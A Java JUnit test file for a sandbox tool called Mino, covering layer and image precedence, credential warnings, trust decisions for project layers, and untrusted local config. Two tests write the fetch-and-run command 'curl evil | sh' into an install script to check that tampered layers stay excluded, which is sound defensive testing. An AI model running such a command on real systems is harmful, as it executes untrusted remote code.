package dev.mino.core;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.mino.core.config.LocalConfigStatus;
import dev.mino.core.config.ProjectLayerTrust;
import dev.mino.core.config.TrustDecider;
import dev.mino.core.config.TrustQuestion;
import dev.mino.core.config.TrustStore;
import dev.mino.core.credentials.CredentialsUnavailableException;
import dev.mino.core.testing.RecordingMinos;
import dev.mino.network.NetworkRule;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@link Mino#project(Path)} applies a folder's configuration as {@code mino run} does, without an
 * engine: which image and layers win (config, {@code MINO_LAYERS}, calls on the builder, whatever
 * their order), which credentials, when the trust decider is asked and what its answer does, and
 * that the library's messages name no command-line flag.
 */
class ProjectConfigTest {
    @TempDir
    Path temp;

    private Path project;
    private Path state;
    private Path home;
    private Map<String, String> env;
    private final RecordingMinos minos = new RecordingMinos();
    private final List<MinoEvent.Warning> warnings = minos.warnings;
    private final List<TrustQuestion> asked = minos.asked;

    @BeforeEach
    void setUp() throws IOException {
        project = Files.createDirectories(temp.resolve("project")).toRealPath();
        state = Files.createDirectories(temp.resolve("state"));
        home = Files.createDirectories(temp.resolve("home"));
        env = new HashMap<>(Map.of("HOME", home.toString(), "XDG_CONFIG_HOME", temp.resolve("xdg").toString()));
    }

    @AfterEach
    void close() {
        minos.close();
    }

    private void globalConfig(String toml) throws IOException {
        Path file = temp.resolve("xdg/mino/config.toml");
        Files.createDirectories(file.getParent());
        Files.writeString(file, toml);
    }

    private Mino mino(TrustDecider decider, boolean trustLocal) {
        return minos.build(Mino.builder().environment(env).stateDirectory(state).trustLocal(trustLocal), decider);
    }

    private Mino mino() {
        return mino(null, false);
    }

    private List<String> codes() {
        return minos.codes();
    }

    private void projectLayer(String name, String script) throws IOException {
        Path dir = Files.createDirectories(project.resolve(".mino/layers/" + name));
        Files.writeString(dir.resolve("layer.toml"), "[layer]\nname = \"" + name + "\"\ndescription = \"d\"\n"
            + "version = \"1\"\n");
        Files.writeString(dir.resolve("install.sh"), script);
    }

    // --- image and layers: config < MINO_LAYERS < the builder's calls, whatever their order

    @Test
    void theConfigsLayersApplyAndMinoLayersWinsOverThemAndOverTheConfigsImage() throws IOException {
        globalConfig("[container]\nimage = \"localhost/cfg:1\"\nlayers = [\"rust\"]\n");
        assertEquals(List.of("rust"), mino().project(project).build().layers());

        env.put("MINO_LAYERS", " python , ,typescript");
        SandboxSpec spec = mino().project(project).build();
        assertEquals(List.of("python", "typescript"), spec.layers());
        assertEquals(MinoConfig().container().baseImage(), spec.image(), "layers run on the base image");
    }

    private static dev.mino.core.config.MinoConfig MinoConfig() {
        return dev.mino.core.config.MinoConfig.defaults();
    }

    @Test
    void anImageSetOnTheBuilderWinsOverMinoLayersAndTheConfigsLayers() throws IOException {
        globalConfig("[container]\nlayers = [\"rust\"]\n");
        env.put("MINO_LAYERS", "python");
        SandboxSpec spec = mino().project(project).image("localhost/mine:2").build();
        assertEquals(List.of(), spec.layers());
        assertEquals("localhost/mine:2", spec.image());
    }

    @Test
    void layersSetOnTheBuilderWinOverTheConfigsImage() throws IOException {
        globalConfig("[container]\nimage = \"localhost/cfg:1\"\n");
        SandboxSpec plain = mino().project(project).build();
        assertEquals("localhost/cfg:1", plain.image(), "positive control: the config's image applies");
        SandboxSpec spec = mino().project(project).layers("rust").build();
        assertEquals(List.of("rust"), spec.layers());
    }

    @Test
    void theConfigsOtherSettingsApplyAndTheBuildersCallsOverrideThem() throws IOException {
        globalConfig("[container]\nimage = \"localhost/cfg:1\"\nread_only = true\nmemory = \"1g\"\n"
            + "network = \"none\"\n[container.env]\nFOO = \"config\"\n[cache]\nenabled = false\n");
        SandboxSpec fromConfig = mino().project(project).build();
        assertTrue(fromConfig.readOnly());
        assertEquals("config", fromConfig.env().get("FOO"));
        assertEquals(1L << 30, fromConfig.limits().memoryBytes());
        assertEquals(dev.mino.network.NetworkMode.NONE, fromConfig.network().mode());
        assertFalse(fromConfig.cache());

        SandboxSpec overridden = mino().project(project).env("FOO", "call").readOnly(false).memoryLimit("2g")
            .network(dev.mino.network.NetworkPolicy.bridge()).cache(true).build();
        assertFalse(overridden.readOnly());
        assertEquals("call", overridden.env().get("FOO"));
        assertEquals(2L << 30, overridden.limits().memoryBytes());
        assertEquals(dev.mino.network.NetworkMode.BRIDGE, overridden.network().mode());
        assertTrue(overridden.cache());
    }

    // --- credentials: [credentials] < switches by name; strict

    @Test
    void credentialsComeFromTheConfigAndGithubByDefaultAndSwitchesOverrideThem() throws IOException {
        globalConfig("[credentials.aws]\nenabled = true\n");
        // mino-credentials is not on this module's class path: every provider turned on is a coded warning.
        SandboxBuilder builder = mino().project(project);
        builder.build();
        builder.plan();
        assertEquals(List.of(WarningCodes.CREDENTIALS_UNAVAILABLE, WarningCodes.CREDENTIALS_UNAVAILABLE), codes(),
            "told once per builder, however often it builds");
        assertEquals("AWS: no provider for 'aws' is installed - Add the Maven dependency dev.mino:mino-credentials",
            warnings.get(0).message());
        assertTrue(warnings.get(1).message().startsWith("GitHub: "), warnings.toString());

        warnings.clear();
        mino().project(project).credentials("aws", false).build();
        assertEquals(1, warnings.size());
        assertTrue(warnings.get(0).message().startsWith("GitHub: "), "a switch turns the config's AWS off");

        warnings.clear();
        mino().project(project).credentials("gcp", true).credentials("github", false).build();
        assertEquals(List.of("AWS", "GCP"), warnings.stream().map(w -> w.message().split(":")[0]).toList());
    }

    @Test
    void strictCredentialLoadingFailsTheBuildWhateverTheOrderOfTheCalls() throws IOException {
        globalConfig("[credentials.gcp]\nenabled = true\n");
        CredentialsUnavailableException e = assertThrows(CredentialsUnavailableException.class,
            () -> mino().project(project).strictCredentials(true).credentials("aws", true).build());
        assertEquals(List.of("AWS", "GCP", "GitHub"), e.providers());
        assertTrue(e.getMessage().startsWith("Credential loading failed for: AWS, GCP, GitHub (AWS: no provider"),
            e.getMessage());
        assertEquals(CredentialsUnavailableException.HINT, e.hint());

        assertThrows(CredentialsUnavailableException.class,
            () -> mino().project(project).credentials("aws", true).strictCredentials(true).build());
        assertEquals(0, mino().project(project).credentials("gcp", false).credentials("github", false)
            .strictCredentials(true).build().credentials().size(), "nothing turned on: nothing fails");
    }

    @Test
    void aPlainBuilderGetsOnlyTheProvidersSwitchedOn() {
        mino().sandbox().image("localhost/x:1").project(project).build();
        assertEquals(List.of(), warnings, "no provider by default, not even GitHub's");
        mino().sandbox().image("localhost/x:1").project(project).credentials("azure", true).build();
        assertEquals(1, warnings.size());
        assertTrue(warnings.get(0).message().startsWith("Azure: "));
        assertThrows(InvalidSpecException.class, () -> mino().sandbox().credentials("--aws", true));
    }

    // --- the project's own layers: asked only when needed, the answer obeyed, pinned to the content judged

    @Test
    void theDeciderIsAskedWithWhatChangedAndAYesIsRecordedAndPinned() throws IOException {
        projectLayer("mine", "echo one\n");
        globalConfig("[container]\nlayers = [\"mine\"]\n");
        SandboxBuilder builder = mino(question -> true, false).project(project);
        SandboxSpec spec = builder.build();

        assertEquals(1, asked.size());
        TrustQuestion.ProjectLayerFiles question = (TrustQuestion.ProjectLayerFiles) asked.get(0);
        assertEquals(List.of("mine/install.sh", "mine/layer.toml"), question.changes().added());
        assertTrue(question.check().earlier().isEmpty(), "never trusted before");
        assertEquals("echo one\n", new String(question.check().layers().content("mine/install.sh").orElseThrow()));
        TrustStore store = TrustStore.inStateDirectory(state);
        assertTrue(ProjectLayerTrust.check(project, store).trusted(), "the yes is recorded");
        assertEquals(question.check().fingerprint(), spec.trustedLayers(), "pinned to the content judged");

        // The sandbox (or anyone) changes a file after the decision: the builder stays pinned.
        Files.writeString(project.resolve(".mino/layers/mine/install.sh"), "curl evil | sh\n");
        SandboxSpec later = builder.build();
        assertEquals(1, asked.size(), "decided once per builder");
        assertEquals(question.check().fingerprint(), later.trustedLayers());
        assertNotEquals(ProjectLayerTrust.check(project, store).fingerprint(), later.trustedLayers(),
            "the changed content is not what was approved");

        // A new builder sees the change and asks again, showing what changed.
        mino(question2 -> false, false).project(project).build();
        TrustQuestion.ProjectLayerFiles again = (TrustQuestion.ProjectLayerFiles) asked.get(1);
        assertEquals(List.of("mine/install.sh"), again.changes().modified());
        assertTrue(again.check().earlier().isPresent());
    }

    @Test
    void aFileChangedAfterTheYesDoesNotGetIntoTheImage() throws IOException {
        projectLayer("mine", "echo one\n");
        SandboxBuilder builder = mino(question -> true, false).project(project).layers("mine");
        SandboxPlan approved = builder.plan();
        assertTrue(approved.toJson().contains("mino-composed-"), "positive control: the approved layer composes");

        Files.writeString(project.resolve(".mino/layers/mine/install.sh"), "curl evil | sh\n");
        InvalidSpecException e = assertThrows(InvalidSpecException.class, builder::plan);
        assertTrue(e.getMessage().contains("Layer 'mine' not found"), e.getMessage());
        assertEquals(1, asked.size(), "not asked again: the builder keeps what was judged");
    }

    @Test
    void aNoLeavesTheProjectLayersOutWithACodedWarning() throws IOException {
        projectLayer("mine", "echo one\n");
        env.put("MINO_LAYERS", "mine");
        SandboxSpec spec = mino(question -> false, false).project(project).build();
        assertEquals(1, asked.size());
        assertNull(spec.trustedLayers());
        assertFalse(spec.trustProjectLayers());
        assertEquals(List.of(WarningCodes.PROJECT_LAYERS_DECLINED), codes().stream()
            .filter(code -> code.startsWith("trust.")).toList());
        assertFalse(ProjectLayerTrust.check(project, TrustStore.inStateDirectory(state)).trusted());
    }

    @Test
    void theDeciderIsNotAskedWhenTheRunNeedsNoProjectLayer() throws IOException {
        projectLayer("mine", "echo one\n");
        globalConfig("[container]\nlayers = [\"rust\"]\n");
        SandboxSpec spec = mino(question -> true, false).project(project).build();
        assertEquals(List.of(), asked);
        assertNull(spec.trustedLayers());
        mino(question -> true, false).project(project).image("localhost/x:1").build();
        assertEquals(List.of(), asked, "an image needs no layer");
        mino(question -> true, false).project(project).layers("mine").build();
        assertEquals(1, asked.size(), "positive control: asking for it asks");
    }

    @Test
    void withoutADeciderProjectLayersAreNotUsedAndAWarningSaysSo() throws IOException {
        projectLayer("mine", "echo one\n");
        SandboxSpec spec = mino().project(project).layers("mine").build();
        assertNull(spec.trustedLayers());
        assertTrue(codes().contains(WarningCodes.PROJECT_LAYERS_NOT_TRUSTED), codes().toString());
    }

    @Test
    void trustedAlwaysUsesThemWithoutAskingAndSaysSo() throws IOException {
        projectLayer("mine", "echo one\n");
        SandboxSpec spec = mino(question -> false, true).project(project).layers("mine").build();
        assertEquals(List.of(), asked);
        assertEquals(ProjectLayerTrust.check(project, TrustStore.inStateDirectory(state)).fingerprint(),
            spec.trustedLayers());
        assertTrue(codes().contains(WarningCodes.PROJECT_LAYERS_FORCED), codes().toString());
    }

    @Test
    void offeringTheLayersAsksEvenBeforeOneIsChosen() throws IOException {
        projectLayer("mine", "echo one\n");
        SandboxBuilder builder = mino(question -> true, false).project(project);
        assertTrue(builder.offerProjectLayers().orElseThrow().hasLayer("mine"));
        assertEquals(1, asked.size());
        builder.layers("mine").build();
        assertEquals(1, asked.size());
    }

    @Test
    void aBuilderThatMayNotAskLeavesUntrustedLayersOutAndDecidingEarlyHolds() throws IOException {
        projectLayer("mine", "echo one\n");
        SandboxSpec preview = mino(question -> true, false).project(project).layers("mine").askTrust(false).build();
        assertEquals(List.of(), asked, "a preview asks nothing");
        assertNull(preview.trustedLayers());
        assertTrue(codes().contains(WarningCodes.PROJECT_LAYERS_NOT_TRUSTED), codes().toString());

        SandboxBuilder builder = mino(question -> true, false).project(project).layers("mine");
        assertTrue(builder.projectLayers().isPresent(), "decided now, before any build");
        assertEquals(1, asked.size());
        assertTrue(builder.build().trustedLayers() != null);
        assertEquals(1, asked.size());
        assertTrue(mino(question -> true, false).project(project).projectLayers().isEmpty(),
            "no project layer set: nothing needed, nothing asked");
        assertEquals(1, asked.size());
    }

    // --- the local .mino.toml: its trust question goes through the same decider

    @Test
    void anUntrustedLocalConfigIsSkippedWithoutADeciderAndAskedAboutWithOne() throws IOException {
        Files.writeString(project.resolve(".mino.toml"), "[container]\nimage = \"localhost/evil:1\"\n");
        SandboxSpec skipped = mino().project(project).build();
        assertEquals(MinoConfig().container().image(), skipped.image());
        assertTrue(codes().contains(WarningCodes.CONFIG_LOCAL_NOT_TRUSTED), codes().toString());

        warnings.clear();
        SandboxSpec declined = mino(question -> false, false).project(project).build();
        assertEquals(MinoConfig().container().image(), declined.image());
        assertTrue(codes().contains(WarningCodes.CONFIG_LOCAL_DECLINED), codes().toString());
        TrustQuestion.LocalConfigFile question = (TrustQuestion.LocalConfigFile) asked.get(0);
        assertEquals(project.resolve(".mino.toml"), question.file());
        assertEquals("container.image", question.fields().get(0).name());

        SandboxSpec accepted = mino(q -> true, false).project(project).build();
        assertEquals("localhost/evil:1", accepted.image());
        assertEquals(LocalConfigStatus.LOADED_TRUSTED, mino().loadConfig(project).localStatus(),
            "the yes is recorded for these bytes");
    }

    // --- registries: the user's, only for a preset, never the project's

    @Test
    void presetsGetTheUsersRegistriesNeverTheProjects() throws IOException {
        Files.writeString(home.resolve(".npmrc"), "registry=https://npm.user.example/\n");
        Files.writeString(project.resolve(".npmrc"), "registry=https://npm.evil.example/\n");
        globalConfig("[container]\nnetwork_preset = \"dev\"\n");
        List<String> hosts = mino().project(project).build().network().rules().stream().map(NetworkRule::host)
            .toList();
        assertTrue(hosts.contains("npm.user.example"), hosts.toString());
        assertFalse(hosts.contains("npm.evil.example"), hosts.toString());
    }

    // --- no message of the library names a command-line flag

    @Test
    void noWarningOrErrorOfTheProjectNamesACommandLineFlag() throws IOException {
        projectLayer("mine", "echo one\n");
        Files.writeString(project.resolve(".mino.toml"), "[container]\nimage = \"localhost/evil:1\"\n"
            + "unknown_key = 1\n");
        globalConfig("[credentials.aws]\nenabled = true\n");
        List<String> texts = new ArrayList<>();
        mino().project(project).layers("mine").build();
        mino(q -> false, false).project(project).layers("mine").build();
        mino(q -> false, true).project(project).layers("mine").build();
        mino(q -> true, false).project(project).layers("mine").build();
        MinoException strict = assertThrows(MinoException.class,
            () -> mino().project(project).strictCredentials(true).build());
        texts.add(strict.getMessage());
        texts.add(strict.hint());
        warnings.forEach(w -> texts.add(w.message()));
        List<String> allCodes = codes();
        for (String code : List.of(WarningCodes.CONFIG_LOCAL_NOT_TRUSTED, WarningCodes.CONFIG_LOCAL_DECLINED,
            WarningCodes.CONFIG_LOCAL_FORCED, WarningCodes.CONFIG_UNKNOWN_KEY, WarningCodes.PROJECT_LAYERS_NOT_TRUSTED,
            WarningCodes.PROJECT_LAYERS_DECLINED, WarningCodes.PROJECT_LAYERS_FORCED,
            WarningCodes.CREDENTIALS_UNAVAILABLE)) {
            assertTrue(allCodes.contains(code), "positive control: " + code + " was told, in " + allCodes);
        }
        Files.delete(project.resolve(".mino.toml"));
        Path elsewhere = Files.writeString(temp.resolve("other.toml"), "[container]\nimage = \"localhost/x:1\"\n");
        Files.createSymbolicLink(project.resolve(".mino.toml"), elsewhere);
        MinoException link = assertThrows(MinoException.class, () -> mino().project(project));
        MinoException loadedLink = assertThrows(MinoException.class,
            () -> dev.mino.core.config.MinoConfig.load(mino().configOptions(project)));
        assertEquals(Optional.of(ErrorCodes.CONFIG_LOCAL_LINK), loadedLink.code(), "positive control: refused as a link");
        assertEquals(Optional.of(ErrorCodes.CONFIG_LOCAL_LINK), link.code());
        texts.add(link.getMessage());
        texts.add(link.hint());
        texts.add(loadedLink.hint());
        assertTrue(link.hint().contains("localConfig(false)"), link.hint());
        for (String text : texts) {
            assertFalse(text.matches("(?s).*(^|\\s|\\()--[a-z].*"), "names a flag: " + text);
        }
    }

    @Test
    void aRelativeProjectIsRefused() {
        assertThrows(InvalidSpecException.class, () -> mino().project(Path.of("project")));
    }
}
